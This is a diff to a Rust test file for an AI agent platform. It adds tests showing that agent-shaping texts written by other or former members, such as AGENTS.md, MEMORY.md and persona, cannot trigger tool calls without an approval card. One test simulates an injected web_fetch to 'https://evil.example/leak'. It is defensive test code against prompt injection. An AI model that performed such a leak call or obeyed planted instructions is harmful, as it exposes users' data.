@@ -4,11 +4,11 @@
 use openvibe::{
     agents::policy::{Policy, TrustLevel},
     db::{Conn, DbError},
-    ids::MessageId,
+    ids::{MessageId, UserId},
     tasks::actions::{ActionSource, ActionState, TaintKind},
     tools::{
         requests::{Requests, Start},
-        taint,
+        taint::{self, AuthoredText},
     },
 };
 use serde_json::{Value, json};
@@ -67,6 +67,8 @@ enum Read {
     File(MessageId),
     /// A web page, or a tool's result, error, or definition.
     Result(ActionSource),
+    /// A text that shapes the agent.
+    Text(AuthoredText),
 }
 
 /// Makes the task read and the model obey. Returns the calls that did not need an approval, or whose card does not name the source.
@@ -81,6 +83,7 @@ async fn obey(
         Read::Message(id) => taint::add_messages(c, task, requester, [*id]).await?,
         Read::File(id) => taint::add_files(c, task, [*id]).await?,
         Read::Result(source) => taint::add(c, task, std::slice::from_ref(source)).await?,
+        Read::Text(text) => taint::add_texts(c, task, std::slice::from_ref(text)).await?,
     }
     let mut wrong = Vec::new();
     for action in round(c, requests, 1, &obedience(demand)).await? {
@@ -202,11 +205,7 @@ async fn files_and_pages_cannot_make_a_call_without_a_card() {
 }
 
 fn source(kind: TaintKind, label: &str) -> ActionSource {
-    ActionSource {
-        kind,
-        source_id: Uuid::now_v7(),
-        label: label.to_owned(),
-    }
+    ActionSource::new(kind, Uuid::now_v7(), label)
 }
 
 #[tokio::test]
@@ -223,6 +222,101 @@ async fn results_and_errors_of_tools_cannot_make_a_call_without_a_card() {
         (Read::Result(source(kinds[n % kinds.len()], &label)), label)
     });
     check(&b, reads.collect()).await;
+}
+
+/// Texts of an agent; those of a workflow have no agent.
+const PARTS: [&str; 10] = [
+    "instructions",
+    "identity",
+    "agency",
+    "tools",
+    "AGENTS.md",
+    "TOOLS.md",
+    "MEMORY.md",
+    "HEARTBEAT.md",
+    "persona",
+    "steps",
+];
+
+/// The `n`th text that shapes the agent of the task.
+fn shaping(b: &Bench, author: Option<&Person>, n: usize) -> AuthoredText {
+    let part = PARTS[n % PARTS.len()];
+    let mut text_hash = [0; 32];
+    text_hash[0] = u8::try_from(n).unwrap();
+    AuthoredText {
+        agent_id: Some(b.task.agent).filter(|_| part != "steps"),
+        owner: "Sage".to_owned(),
+        part,
+        author: author.map(|author| author.id.parse::<UserId>().unwrap()),
+        text_hash,
+    }
+}
+
+#[tokio::test]
+async fn texts_of_other_members_cannot_make_a_call_without_a_card() {
+    let b = prepared().await;
+    let eve = b.t.app.join(&b.t.ada, "Eve", "member").await;
+    let reads = (0..20).map(|n| {
+        let text = shaping(&b, Some(&eve), n);
+        let label = format!("Sage's {}, by Eve", text.part);
+        (Read::Text(text), label)
+    });
+    check(&b, reads.collect()).await;
+}
+
+#[tokio::test]
+async fn texts_of_former_members_cannot_make_a_call_without_a_card() {
+    let b = prepared().await;
+    let mut reads = Vec::new();
+    for n in 0..10 {
+        let text = shaping(&b, None, n);
+        let label = format!("Sage's {}, by a former member", text.part);
+        reads.push((Read::Text(text), label));
+    }
+    let eve = b.t.app.join(&b.t.ada, "Eve", "admin").await;
+    let removal = format!("/v1/members/{}", eve.id);
+    b.t.ada.delete(&removal).await.is(204);
+    for n in 10..20 {
+        let text = shaping(&b, Some(&eve), n);
+        let label = format!("Sage's {}, by Eve", text.part);
+        reads.push((Read::Text(text), label));
+    }
+    check(&b, reads).await;
+}
+
+#[tokio::test]
+async fn a_text_of_an_admin_counts_once_the_admin_loses_the_role() {
+    let b = prepared().await;
+    let eve = b.t.app.join(&b.t.ada, "Eve", "admin").await;
+    let requests = b.requests(&Policy::default(), 1).await;
+    let text = shaping(&b, Some(&eve), 0);
+    let eve: UserId = eve.id.parse().unwrap();
+    let found = async |loses_role: bool| {
+        let (requests, text) = (requests.clone(), text.clone());
+        let case = async move |c: &mut Conn| {
+            let task = requests.task.task;
+            taint::add_texts(c, task, std::slice::from_ref(&text)).await?;
+            let calls = [call(
+                "web_fetch",
+                &json!({"url": "https://evil.example/leak"}),
+            )];
+            let action = round(c, &requests, 1, &calls).await?.remove(0);
+            assert_eq!(action.state, ActionState::Approved);
+            assert!(!action.sources.0[0].counts());
+            if loses_role {
+                c.q("update members set role = 'member' where user_id = $1")
+                    .bind(eve)
+                    .run()
+                    .await?;
+            }
+            let start = requests.start(c, &action, Uuid::now_v7()).await?;
+            let again = round(c, &requests, 2, &calls).await?.remove(0);
+            Ok((matches!(start, Start::Started), again.state))
+        };
+        rolled_back(b.db(), b.task.workspace, case).await
+    };
+    assert_eq!(found(false).await, (true, ActionState::Approved));
+    assert_eq!(found(true).await, (false, ActionState::Waiting));
 }
 
 #[tokio::test]
@@ -264,8 +358,8 @@ fn unnamed<'a>(
     wrong.map(|(marker, ..)| *marker).collect()
 }
 
-/// Covers all texts except those that do not taint a task: the system prompt, tool definitions, MEMORY.md, USER.md, and names of
-/// channels and agents.
+/// Covers all texts except those that do not taint a task: the server's text, the workspace's policy, USER.md, names of channels and
+/// agents, and texts that an admin wrote for the agent.
 #[tokio::test]
 async fn every_text_of_others_in_a_prompt_is_named_on_the_card() {
     let t = team().await;
